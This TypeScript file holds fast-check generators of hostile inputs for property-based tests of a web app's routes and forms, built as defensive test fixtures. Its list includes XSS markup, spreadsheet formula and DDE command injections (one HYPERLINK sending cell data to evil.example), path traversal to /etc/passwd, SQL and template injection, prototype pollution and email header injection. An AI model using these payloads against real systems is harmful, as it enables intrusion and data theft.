// Hostile values for the property-based tests (fast-check): strings an attacker or a broken client sends, numbers at
// the edges, wrong types, and bodies generated from a route's own zod schema with such values mixed in at every level.
import fc from 'fast-check';
import { z } from 'zod';

/** Markup that would run if a page echoed it unescaped: a page's body must never contain it as sent. */
export const markup = ['<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>'];

export const hostileStrings: readonly string[] = [
  ...markup,
  '\u0000',
  'a\u0000b',
  '%00',
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '-2+3+cmd|A0',
  '@SUM(1+1)*cmd|A0',
  '\t=1+1',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '..%2f..%2fetc%2fpasswd',
  '\uFEFF\u202Eevil\u202C',
  '\uD800',
  '\uDFFF\uD800',
  '\r\nBcc: victim@example.org',
  'x'.repeat(100_000),
  '💥'.repeat(5_000),
  ' ',
  '',
  'null',
  '2147483648',
  '-2147483649',
  '9007199254740993',
  '1e309',
  'NaN',
  '0x7fffffff',
  '2030-02-30',
  '{"__proto__":{"polluted":1}}',
  "' or 1=1 --",
  '${7*7}{{7*7}}',
];

const edgeNumbers = fc.constantFrom(0, -1, -0, 1, 2_147_483_647, 2_147_483_648, -2_147_483_649, 9_007_199_254_740_993, 1e308, -1e308, 0.5, 5e-324);

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...hostileStrings) },
  // Any code points, lone surrogates included ("binary" units).
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...hostileStrings), fc.constantFrom(...hostileStrings)).map(([a, b]) => a + b) },
);

/** A value of the wrong type for wherever it lands. */
const wrongType: fc.Arbitrary<unknown> = fc.oneof(
  fc.constant(null),
  fc.boolean(),
  edgeNumbers,
  fc.constant([]),
  fc.constant({}),
  fc.array(hostileString, { maxLength: 3 }),
  fc.constant({ __proto__: { polluted: true } }),
  // Deeper than any body Concord reads (64 levels), shallower than what the parser refuses outright.
  fc.constant(JSON.parse('['.repeat(70) + ']'.repeat(70))),
);

type JsonSchema = {
  type?: string | string[];
  anyOf?: JsonSchema[];
  oneOf?: JsonSchema[];
  enum?: unknown[];
  const?: unknown;
  properties?: Record<string, JsonSchema>;
  required?: string[];
  items?: JsonSchema;
  format?: string;
  minimum?: number;
  maximum?: number;
  maxLength?: number;
  minLength?: number;
};

/**
 * Values of the schema's own shape. `chaos`: hostile values and wrong types at every level (the parser's test);
 * without it the shape holds and the strings are hostile ones cut to the field's length, so the body reaches the
 * domain functions and the pages that show what was stored.
 */
function fromJsonSchema(schema: JsonSchema, depth: number, chaos: boolean): fc.Arbitrary<unknown> {
  let proper: fc.Arbitrary<unknown>;
  const variants = schema.anyOf ?? schema.oneOf;
  if (variants?.length) proper = fc.oneof(...variants.map((v) => fromJsonSchema(v, depth + 1, chaos)));
  else if (schema.enum?.length) proper = fc.constantFrom(...schema.enum);
  else if (schema.const !== undefined) proper = fc.constant(schema.const);
  else {
    const type = Array.isArray(schema.type) ? schema.type[0] : schema.type;
    switch (type) {
      case 'object': {
        const properties = schema.properties ?? {};
        const model = Object.fromEntries(Object.entries(properties).map(([k, v]) => [k, depth > 6 ? wrongType : fromJsonSchema(v, depth + 1, chaos)]));
        proper = fc.record(model, { requiredKeys: (schema.required ?? []).filter((k) => k in model) });
        break;
      }
      case 'array':
        proper = fc.array(depth > 6 ? wrongType : fromJsonSchema(schema.items ?? {}, depth + 1, chaos), { maxLength: 3 });
        break;
      case 'string':
        proper =
          schema.format === 'email'
            ? fc.constantFrom('someone@example.org', 'a@b', '<script>@example.org', 'x@example.org\r\nBcc: y@example.org')
            : schema.format === 'date'
              ? fc.constantFrom('2030-01-31', '2030-02-30', '0000-01-01', '9999-12-31', '2030-1-1')
              : fc.oneof(
                  fc.string({ minLength: schema.minLength ?? 0, maxLength: Math.max(schema.minLength ?? 0, Math.min(schema.maxLength ?? 40, 40)) }),
                  hostileString.map((v) => v.slice(0, schema.maxLength ?? v.length)).filter((v) => v.length >= (schema.minLength ?? 0)),
                );
        break;
      case 'integer':
        proper = fc.oneof(fc.integer({ min: Math.max(schema.minimum ?? -(2 ** 31), -(2 ** 31)), max: Math.min(schema.maximum ?? 2 ** 31 - 1, 2 ** 31 - 1) }), edgeNumbers);
        break;
      case 'number':
        proper = fc.oneof(fc.double({ noNaN: true, noDefaultInfinity: true }), edgeNumbers);
        break;
      case 'boolean':
        proper = fc.boolean();
        break;
      case 'null':
        proper = fc.constant(null);
        break;
      default:
        proper = wrongType;
    }
  }
  return chaos ? fc.oneof({ weight: 5, arbitrary: proper }, { weight: 1, arbitrary: hostileString }, { weight: 1, arbitrary: wrongType }) : proper;
}

/** Bodies for a route's zod schema; a schema JSON Schema cannot express (a transform) gives hostile objects instead. */
export function bodiesFor(schema: unknown): fc.Arbitrary<unknown> {
  if (schema instanceof z.ZodType) {
    try {
      const json = z.toJSONSchema(schema, { io: 'input', unrepresentable: 'any' }) as JsonSchema;
      return fc.oneof({ weight: 2, arbitrary: fromJsonSchema(json, 0, false) }, { weight: 1, arbitrary: fromJsonSchema(json, 0, true) });
    } catch {
      // fall through
    }
  }
  return fc.dictionary(fc.constantFrom('title', 'name', 'text', 'email', 'id', 'kind', 'status', 'note', 'reason'), fc.oneof(hostileString, wrongType), { maxKeys: 5 });
}

/** A form's fields, each a hostile string (a repeated field a list of them), as a browser would post them. */
export function formsFor(fields: readonly string[]): fc.Arbitrary<Record<string, string | string[]>> {
  const value = fc.oneof({ weight: 4, arbitrary: hostileString }, { weight: 1, arbitrary: fc.array(hostileString, { minLength: 2, maxLength: 3 }) });
  return fc.record(Object.fromEntries(fields.map((f) => [f, value])), { requiredKeys: [] }) as fc.Arbitrary<Record<string, string | string[]>>;
}

/** The body urlencoded, now and then with bytes that are not UTF-8 in a value. */
export function urlencoded(fields: Record<string, string | string[]>, brokenUtf8: boolean): Buffer {
  const body = new URLSearchParams();
  for (const [k, v] of Object.entries(fields)) for (const item of Array.isArray(v) ? v : [v]) body.append(k, item);
  const text = Buffer.from(body.toString());
  return brokenUtf8 ? Buffer.concat([text, Buffer.from(`${text.length ? '&' : ''}title=`), Buffer.from([0xff, 0xfe, 0xc3, 0x28, 0xed, 0xa0, 0x80])]) : text;
}

/** A stack trace or a source path in a body: an error's insides shown to whoever asked. */
export const stackTrace = /\n\s+at [\w.<>$[\] ]+ \(|\bat (async )?[\w.]+ \((file|node):|node:internal|\/src\/[\w/-]+\.tsx?:\d+/;
